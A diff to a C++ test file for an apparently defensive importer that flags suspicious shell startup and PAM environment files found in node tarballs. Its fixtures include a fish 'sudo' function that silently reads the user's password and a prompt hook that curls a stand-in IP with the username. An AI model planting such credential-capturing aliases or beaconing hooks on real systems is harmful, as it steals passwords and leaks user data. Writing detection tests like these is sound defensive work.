@@ -645,7 +645,17 @@ void TestNodeScriptImporter::nodeFromThePath()
                              "worker-1/etc/udev/rules.d/99-x.rules",
                              "worker-1/usr/lib/udev/rules.d/80-drivers.rules",
                              "worker-1/etc/xdg/autostart/x.desktop",
-                             "worker-1/home/alice/.config/autostart/x.desktop"}) {
+                             "worker-1/home/alice/.config/autostart/x.desktop",
+                             "worker-1/etc/csh.cshrc",
+                             "worker-1/etc/csh/login.d/lang",
+                             "worker-1/root/.tcshrc",
+                             "worker-1/home/alice/.login",
+                             "worker-1/etc/fish/config.fish",
+                             "worker-1/etc/fish/conf.d/x.fish",
+                             "worker-1/home/alice/.config/fish/config.fish",
+                             "worker-1/home/alice/.config/fish/functions/sudo.fish",
+                             "worker-1/etc/security/pam_env.conf",
+                             "worker-1/home/alice/.pam_environment"}) {
         const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
         QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
     }
@@ -1427,6 +1437,9 @@ void TestNodeScriptImporter::shellDialects_data()
         << QStringList{"credential-alias@2"};
     QTest::newRow("fish: another function reading")
         << function << QByteArray("function greet\n    read -s x\nend\n") << none;
+    QTest::newRow("fish: function sudo reading after its program")
+        << function << QByteArray("function sudo\n    command sudo -v\n    read -s p\n    command sudo $argv\nend\n")
+        << QStringList{"credential-alias@3"};
     QTest::newRow("fish: fish_prompt calling curl")
         << confD << QByteArray("function fish_prompt\n    curl -s https://203.0.113.7/p?u=$USER\n    echo '> '\nend\n")
         << QStringList{"prompt-command@2"};
@@ -1563,6 +1576,29 @@ void TestNodeScriptImporter::shellDialectFindingsSayWhat()
     QVERIFY(logout.result.hasValue());
     QVERIFY(logout.out.resources.empty());
     QCOMPARE(issueCodes(logout.issues), QStringList{QStringLiteral("node-script.empty")});
+
+    // Through an import of a node's tarball: each file found by where it lies,
+    // under its node, with its findings.
+    QVector<QPair<QString, QByteArray>> members;
+    for (const char* f :
+         {"rootkit/etc/csh.cshrc", "rootkit/home/dev/.tcshrc", "rootkit/etc/fish/conf.d/gnome-keyring.fish",
+          "rootkit/home/dev/.config/fish/functions/sudo.fish", "rootkit/etc/security/pam_env.conf",
+          "rootkit/home/dev/.pam_environment", "debian/etc/csh.login", "debian/etc/fish/config.fish"}) {
+        const QString path = QString::fromLatin1(f);
+        members.push_back({QStringLiteral("worker-3/") + path.section(QLatin1Char('/'), 1), fixture(path)});
+    }
+    const ImportedResources imported = importTarball(members);
+    QVERIFY2(imported.error.isEmpty(), qPrintable(imported.error));
+    QCOMPARE(imported.names(QStringLiteral("NodeScript")),
+             (QStringList{QStringLiteral("worker-3/etc/csh.cshrc"), QStringLiteral("worker-3/etc/csh.login"),
+                          QStringLiteral("worker-3/etc/fish/conf.d/gnome-keyring.fish"),
+                          QStringLiteral("worker-3/home/dev/.config/fish/functions/sudo.fish"),
+                          QStringLiteral("worker-3/home/dev/.tcshrc")}));
+    QCOMPARE(imported.names(QStringLiteral("NodeEnvironment")),
+             (QStringList{QStringLiteral("worker-3/etc/security/pam_env.conf"),
+                          QStringLiteral("worker-3/home/dev/.pam_environment")}));
+    // 5 in csh.cshrc, 2 in .tcshrc, 5 in gnome-keyring.fish, 1 in sudo.fish, 2 in pam_env.conf, 1 in .pam_environment.
+    QCOMPARE(imported.findings, 16);
 }
 
 void TestNodeScriptImporter::pamEnvironment()
